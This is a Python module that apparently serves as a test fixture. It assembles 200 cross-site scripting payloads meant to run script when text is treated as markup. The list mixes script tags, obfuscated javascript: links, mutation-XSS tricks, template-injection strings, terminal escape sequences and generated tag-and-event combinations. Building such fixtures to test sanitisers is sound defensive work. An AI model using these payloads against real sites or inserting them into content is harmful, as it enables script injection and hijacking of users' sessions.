"""Two hundred texts that run a script where text is taken for markup."""

from __future__ import annotations

from itertools import islice, product

_CODE = "window.ran=1;alert(1)"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video><source",
    "audio src=x",
    "details open",
    "input autofocus",
    "marquee",
    "iframe",
)
_EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onstart", "onmouseover", "onanimationstart")
_BREAKS = ("", '">', "'>", "</td>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "`")
_SPECIAL = (
    f"<script>{_CODE}</script>",
    f"</script><script>{_CODE}</script>",
    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    f"<SCRIPT SRC=data:text/javascript,{_CODE}></SCRIPT>",
    f'<a href="javascript:{_CODE}">x</a>',
    f'<a href="java\tscript:{_CODE}">x</a>',
    f'<a href="&#106;avascript:{_CODE}">x</a>',
    f"[x](javascript:{_CODE})",
    f"![x](javascript:{_CODE})",
    f'![x"onerror="{_CODE}](x)',
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f'<iframe src="javascript:{_CODE}"></iframe>',
    f'<object data="data:text/html,<script>{_CODE}</script>"></object>',
    f'<embed src="data:image/svg+xml,<svg onload={_CODE}>">',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CODE}>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><a xlink:href='javascript:{_CODE}'><text y=20>x</text></a></svg>",
    f'<noscript><p title="</noscript><img src=x onerror={_CODE}>">',
    f"<template><script>{_CODE}</script></template>",
    '<meta http-equiv="refresh" content="0;url=https://example.org/">',
    '<link rel="stylesheet" href="https://example.org/x.css">',
    '<base href="https://example.org/">',
    '<form action="https://example.org/"><button>x</button></form>',
    '<img src="https://example.org/x.png">',
    '<img srcset="https://example.org/x.png 1x">',
    '<div style="background:url(https://example.org/x.png)">x</div>',
    '<div style="position:fixed;inset:0;background:#fff">DONE</div>',
    "<style>@import 'https://example.org/x.css'; body{display:none}</style>",
    f'<div style="width:expression({_CODE})">x</div>',
    f"<!--><img src=x onerror={_CODE}>-->",
    f"<![CDATA[<script>{_CODE}</script>]]>",
    f"{{{{constructor.constructor('{_CODE}')()}}}}",
    f"{{% raw %}}<script>{_CODE}</script>",
    f"\x1b]8;;javascript:{_CODE}\x07x\x1b]8;;\x07",
    f"\x1b[31m<script>{_CODE}</script>\x1b[0m",
    f"${_CODE}$<script>{_CODE}</script>",
    f"``` \n</code></pre><script>{_CODE}</script>\n```",
    f"<p onclick={_CODE} onmouseover={_CODE}>x</p>",
    f"\u2028<script>{_CODE}</script>\u2029",
)
_MADE = (f"{edge}<{tag} {event}={_CODE}>" for edge, tag, event in product(_BREAKS, _TAGS, _EVENTS))
PAYLOADS = [*_SPECIAL, *islice((text for number, text in enumerate(_MADE) if number % 4 == 0), 200 - len(_SPECIAL))]
